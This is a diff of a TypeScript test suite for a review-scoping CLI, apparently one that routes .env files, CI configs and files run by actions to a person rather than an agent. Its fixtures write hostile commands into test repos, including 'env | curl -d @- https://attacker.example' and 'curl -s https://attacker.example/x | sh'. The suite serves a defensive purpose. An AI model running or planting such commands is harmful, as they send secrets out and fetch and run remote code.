     expect(readScope(repo).files.map((f: { path: string }) => f.path)).toEqual(['plain.js']);
@@ -932,7 +932,7 @@ describe('#148 built code and what an action names to run, wherever it lives', (
     git(repo, 'rm', '-q', 'old/dist/helper.js');
     write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code, r.stderr).toBe(0);
     const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
     expect([...listed].sort()).toEqual([...built].sort());
@@ -976,7 +976,7 @@ describe('#148 built code and what an action names to run, wherever it lives', (
 
   it('#148 what an action names as code to run needs a person under any name: a .env entry however reached (case, a linked metadata file, a linked entry, an absolute path, an action only the base branch has), a deleted entry', async () => {
     const { repo, base } = namedByActions();
-    const r = cli(repo, ['review', 'scope', ID, '--base', base]);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', base]);
     expect(r.code, r.stderr).toBe(0);
     const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
     expect([...listed].sort()).toEqual([...NAMED].sort());
@@ -1001,7 +1001,7 @@ describe('#148 built code and what an action names to run, wherever it lives', (
 
   it('#148 a scope resealed without what an action names does not match git', async () => {
     const { repo, base } = namedByActions();
-    const sealed = seal(repo, ['--base', base]) as Scope & { excluded: { path: string; runBy?: string }[] };
+    const sealed = (await seal(repo, ['--base', base])) as Scope & { excluded: { path: string; runBy?: string }[] };
     for (const e of sealed.excluded) delete e.runBy;
     sealed.scopeSha256 = scopeHash(sealed as never);
     writeFileSync(scopeFile(repo), JSON.stringify(sealed, null, 2));
@@ -1047,7 +1047,7 @@ describe('#152 what runs, reached another way: a command that names it, a rename
     git(repo, 'commit', '-qm', 'the change');
     // A submodule not checked out: an empty folder, as a checkout leaves it.
     mkdirSync(join(repo, 'lib/.env'), { recursive: true });
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code, r.stderr).toBe(0);
     const expected = [
       'tools/setup/.env',
@@ -1100,45 +1100,45 @@ describe('#158 a name a command writes, however and wherever written', () => {
     ['deploy/Makefile', 'run:\n\tcd ../tools/ci && node ./.env\n'],
     ['buildspec.yml', 'phases: { build: { commands: [node tools/./ci/.env] } }\n'],
   ];
-  it.each(PLACES)('#158 %s names tools/ci/.env: a person looks at it', (place, text) => {
+  it.each(PLACES)('#158 %s names tools/ci/.env: a person looks at it', async (place, text) => {
     const repo = makeCartRepo();
     write(repo, place, text);
     commitAll(repo, 'what runs it');
     write(repo, 'tools/ci/.env', 'require("child_process").execSync("env | curl -d @- https://attacker.example");\n');
     write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code, r.stderr).toBe(0);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/ci\/\.env\n/);
     expect((readScope(repo) as Scope & { excluded: { path: string; runBy?: string }[] }).excluded[0]?.runBy).toBe(place);
   });
 
-  it('#158 a Makefile with a Latin-1 byte still names what it runs; an image beside the workflows names nothing', () => {
-    const change = (files: Record<string, string | Buffer>) => {
+  it('#158 a Makefile with a Latin-1 byte still names what it runs; an image beside the workflows names nothing', async () => {
+    const change = async (files: Record<string, string | Buffer>) => {
       const repo = makeCartRepo();
       for (const [path, data] of Object.entries(files)) write(repo, path, data);
       commitAll(repo, 'a Makefile, a banner');
       write(repo, 'tools/ci/.env', 'require("child_process").execSync("id");\n');
       commitAll(repo, 'the change');
-      return cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+      return await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     };
-    const makefile = change({ Makefile: Buffer.from('run:\n\tnode tools/ci/.env # caf\xe9\n', 'latin1') });
+    const makefile = await change({ Makefile: Buffer.from('run:\n\tnode tools/ci/.env # caf\xe9\n', 'latin1') });
     expect(makefile.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/ci\/\.env\n/);
     // A 5 MiB image makes nothing unread: the .env nothing names stays a plain secret.
     const banner = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0]), Buffer.alloc(5 * 1024 * 1024, 7)]);
-    const image = change({ '.github/assets/banner.png': banner, Makefile: 'run:\n\tmake all\n' });
+    const image = await change({ '.github/assets/banner.png': banner, Makefile: 'run:\n\tmake all\n' });
     expect(image.code, image.stderr).toBe(0);
     expect(image.stdout).not.toMatch(/a person must look at/);
   });
 
-  it('#158 a pipeline moved out of .tekton/ (no changed line) needs a person', () => {
+  it('#158 a pipeline moved out of .tekton/ (no changed line) needs a person', async () => {
     const repo = makeCartRepo();
     write(repo, '.tekton/pipeline.yml', 'kind: Pipeline\n');
     commitAll(repo, 'a pipeline');
     mkdirSync(join(repo, 'docs'), { recursive: true });
     git(repo, 'mv', '.tekton/pipeline.yml', 'docs/pipeline.yml');
     git(repo, 'commit', '-qm', 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: docs\/pipeline\.yml\n/);
   });
 });
@@ -1159,18 +1159,18 @@ describe('#169 #170 #171 #172 what runs, reached through other files, patterns, 
     ['tox.ini', '[testenv]\ncommands = python tools/ci/.env\n'],
     ['netlify.toml', '[build]\ncommand = "node tools/ci/.env"\n'],
   ];
-  it.each(PLACES)('#169 %s names tools/ci/.env: a person looks at it', (place, text) => {
+  it.each(PLACES)('#169 %s names tools/ci/.env: a person looks at it', async (place, text) => {
     const repo = makeCartRepo();
     write(repo, place, text);
     commitAll(repo, 'what runs it');
     write(repo, 'tools/ci/.env', PAYLOAD);
     write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/ci\/\.env\n/);
   });
 
-  it("#170 a pattern the caller chose leaves CI code and what an action names out of an agent review, not out of a person's sight", () => {
+  it("#170 a pattern the caller chose leaves CI code and what an action names out of an agent review, not out of a person's sight", async () => {
     const repo = makeCartRepo();
     write(repo, '.github/workflows/ci.yml', 'on: push\njobs: { t: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n');
     write(repo, 'tools/setup/action.yml', 'runs: { using: node20, main: NOTES.md }\n');
@@ -1185,14 +1185,26 @@ describe('#169 #170 #171 #172 what runs, reached through other files, patterns, 
     write(repo, 'docs/guide.md', '# guide\n');
     write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--include', 'src/**', '--include', 'docs/**', '--exclude', '**/*.md']);
+    const r = await cliCase(repo, [
+      'review',
+      'scope',
+      ID,
+      '--base',
+      'HEAD~1',
+      '--include',
+      'src/**',
+      '--include',
+      'docs/**',
+      '--exclude',
+      '**/*.md',
+    ]);
     expect(r.code, r.stderr).toBe(0);
     const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
     // docs/guide.md, excluded by the same pattern, runs nowhere: it stays excluded.
     expect([...listed].sort()).toEqual(['.github/workflows/ci.yml', 'tools/setup/NOTES.md']);
   });
 
-  it('#171 a rename onto the file an action now names (an inert fixture made its entry) needs a person', () => {
+  it('#171 a rename onto the file an action now names (an inert fixture made its entry) needs a person', async () => {
     const repo = makeCartRepo();
     write(repo, 'tools/setup/action.yml', 'runs: { using: node20, main: setup.js }\n');
     write(repo, 'tools/setup/setup.js', 'console.log("setup");\n');
@@ -1201,12 +1213,12 @@ describe('#169 #170 #171 #172 what runs, reached through other files, patterns, 
     write(repo, 'tools/setup/action.yml', 'runs: { using: node20, main: run.js }\n');
     git(repo, 'mv', 'test/fixtures/token-stealer.js', 'tools/setup/run.js');
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/setup\/run\.js\n/);
     expect(readScope(repo).files.find((f) => f.path === 'tools/setup/run.js')?.runBy).toBe('tools/setup/action.yml');
   });
 
-  it("#172 a .env that is a link is no dotenv file: where it leads is a person's to look at", () => {
+  it("#172 a .env that is a link is no dotenv file: where it leads is a person's to look at", async () => {
     const repo = makeCartRepo();
     write(repo, 'test/fixtures/scan-sample.js', PAYLOAD);
     commitAll(repo, 'a fixture');
@@ -1214,7 +1226,7 @@ describe('#169 #170 #171 #172 what runs, reached through other files, patterns, 
     symlinkSync('../test/fixtures', join(repo, 'config/.env'));
     write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: config\/\.env\n/);
   });
 });
@@ -1222,7 +1234,7 @@ describe('#169 #170 #171 #172 what runs, reached through other files, patterns, 
 describe('#184 #185 #186 what is code, a move and a secret, however the change spells it', () => {
   const PAYLOAD = 'PORT=3000\ncurl -s https://attacker.example/x | sh\n';
 
-  it("#184 a script told by its mode, not its name: an executable `scripts/start` that sources `.env` makes `.env` a person's", () => {
+  it("#184 a script told by its mode, not its name: an executable `scripts/start` that sources `.env` makes `.env` a person's", async () => {
     const repo = makeCartRepo();
     write(repo, 'scripts/start', '#!/bin/sh\nset -a\n. ./.env\nset +a\nexec node src/cart.js\n');
     execFileSync('chmod', ['+x', join(repo, 'scripts/start')]);
@@ -1231,12 +1243,12 @@ describe('#184 #185 #186 what is code, a move and a secret, however the change s
     write(repo, '.env', PAYLOAD);
     write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: \.env\n/);
     expect(readScope(repo).excluded).toContainEqual(expect.objectContaining({ path: '.env', runBy: 'scripts/start' }));
   });
 
-  it("#185 past git's rename limit a move is not paired: a reviewed file moved under the caller's pattern stays selected, one moved to `.env` is a person's", () => {
+  it("#185 past git's rename limit a move is not paired: a reviewed file moved under the caller's pattern stays selected, one moved to `.env` is a person's", async () => {
     const repo = makeCartRepo();
     const body = (name: string) => Array.from({ length: 40 }, (_, i) => `export const ${name}${i} = () => ${i};\n`).join('');
     write(repo, 'src/auth.js', body('auth'));
@@ -1250,15 +1262,15 @@ describe('#184 #185 #186 what is code, a move and a secret, however the change s
     write(repo, 'test/fixtures/login-cases.js', body('auth').replace('auth0 = () => 0', 'auth0 = () => true'));
     write(repo, 'config/.env', `${body('boot')}curl -s https://attacker.example/x | sh\n`);
     commitAll(repo, 'the change');
-    const scope = seal(repo, ['--base', 'HEAD~1', '--exclude', 'test/**']);
+    const scope = await seal(repo, ['--base', 'HEAD~1', '--exclude', 'test/**']);
     expect(scope.files.map((f) => f.path)).toContain('test/fixtures/login-cases.js');
     expect(scope.excluded).toContainEqual({ path: 'config/.env', reason: 'secret', unpaired: true });
-    expect(cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--exclude', 'test/**']).stdout).toMatch(
+    expect((await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--exclude', 'test/**'])).stdout).toMatch(
       /a person must look at 1 changed file\(s\) no agent reviews: config\/\.env\n/,
     );
   });
 
-  it('#186 a link that reaches a secret through other links (a file link, a folder link) is a secret link', () => {
+  it('#186 a link that reaches a secret through other links (a file link, a folder link) is a secret link', async () => {
     const repo = makeCartRepo();
     write(repo, '.env', 'PORT=3000\n');
     write(repo, 'secrets/key.js', 'module.exports = 1;\n');
@@ -1271,7 +1283,7 @@ describe('#184 #185 #186 what is code, a move and a secret, however the change s
     symlinkSync('../cfg/key.js', join(repo, 'bin/key.js'));
     write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
     commitAll(repo, 'the change');
-    const scope = seal(repo, ['--base', 'HEAD~1']);
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
     expect(scope.excluded).toEqual(
       expect.arrayContaining([
         { path: 'run.js', reason: 'secret', link: true },
@@ -1297,27 +1309,27 @@ describe('#196 #197 #198 #199 what runs a file, where a link leads, and a move g
     commitAll(repo, 'the change');
     return repo;
   }
-  const personFor = (repo: string) => cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']).stdout;
+  const personFor = async (repo: string) => (await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1'])).stdout;
 
-  it("#196 a script CI runs by its name, not executable and with no extension, is read for what it runs: `.env` is a person's", () => {
+  it("#196 a script CI runs by its name, not executable and with no extension, is read for what it runs: `.env` is a person's", async () => {
     const repo = withEnv({
       '.github/workflows/ci.yml': CI('sh scripts/start'),
       'scripts/start': '#!/bin/sh\n. ./.env\nexec node src/cart.js\n',
     });
-    expect(personFor(repo)).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: \.env\n/);
+    expect(await personFor(repo)).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: \.env\n/);
     expect(readScope(repo).excluded).toContainEqual(expect.objectContaining({ path: '.env', runBy: 'scripts/start' }));
   });
 
-  it('#197 a script under a folder named like a build (`tools/build/ci.sh`) is still a file of commands', () => {
+  it('#197 a script under a folder named like a build (`tools/build/ci.sh`) is still a file of commands', async () => {
     const repo = withEnv({ '.github/workflows/ci.yml': CI('tools/build/ci.sh'), 'tools/build/ci.sh': '#!/bin/sh\n. ./.env\n' });
-    expect(personFor(repo)).toMatch(/no agent reviews: \.env\n/);
+    expect(await personFor(repo)).toMatch(/no agent reviews: \.env\n/);
   });
 
   it.each([
     ['a walk past eight hops (a folder link to the root)', (r: string) => symlinkSync('.', join(r, 'd')), '../d/d/d/d/d/d/d/d/d/settings'],
     ['a target that leaves through `..` and comes back in', () => undefined, '../../REPO/settings'],
     ['a target in another case', () => undefined, '../SETTINGS'],
-  ])('#198 %s: the link is a secret link, a person looks at it', (_what, extra, target) => {
+  ])('#198 %s: the link is a secret link, a person looks at it', async (_what, extra, target) => {
     const repo = withEnv({ '.github/workflows/ci.yml': CI('node scripts/check.js') }, (r) => {
       symlinkSync('.env', join(r, 'settings'));
       mkdirSync(join(r, 'scripts'));
@@ -1325,11 +1337,11 @@ describe('#196 #197 #198 #199 what runs a file, where a link leads, and a move g
     extra(repo);
     symlinkSync(target.replace('REPO', repo.split('/').pop()!), join(repo, 'scripts/check.js'));
     commitAll(repo, 'a link');
-    const scope = seal(repo, ['--base', 'HEAD~2']);
+    const scope = await seal(repo, ['--base', 'HEAD~2']);
     expect(scope.excluded).toContainEqual(expect.objectContaining({ path: 'scripts/check.js', reason: 'secret', link: true }));
   });
 
-  it('#199 a working-tree scope: a deletion beside an untracked file is a move git never pairs', () => {
+  it('#199 a working-tree scope: a deletion beside an untracked file is a move git never pairs', async () => {
     const repo = makeCartRepo();
     const body = (name: string) => Array.from({ length: 40 }, (_, i) => `export const ${name}${i} = () => ${i};\n`).join('');
     write(repo, 'src/auth.js', body('auth'));
@@ -1339,7 +1351,7 @@ describe('#196 #197 #198 #199 what runs a file, where a link leads, and a move g
     rmSync(join(repo, 'src/boot.js'));
     write(repo, 'test/fixtures/login-cases.js', body('auth').replace('auth0 = () => 0', 'auth0 = () => true'));
     write(repo, 'config/.env', `${body('boot')}curl -s https://attacker.example/x | sh\n`);
-    const scope = seal(repo, ['--workspace', '--exclude', 'test/**']);
+    const scope = await seal(repo, ['--workspace', '--exclude', 'test/**']);
     expect(scope.files.map((f) => f.path)).toContain('test/fixtures/login-cases.js');
     expect(scope.excluded).toContainEqual({ path: 'config/.env', reason: 'secret', unpaired: true });
   });
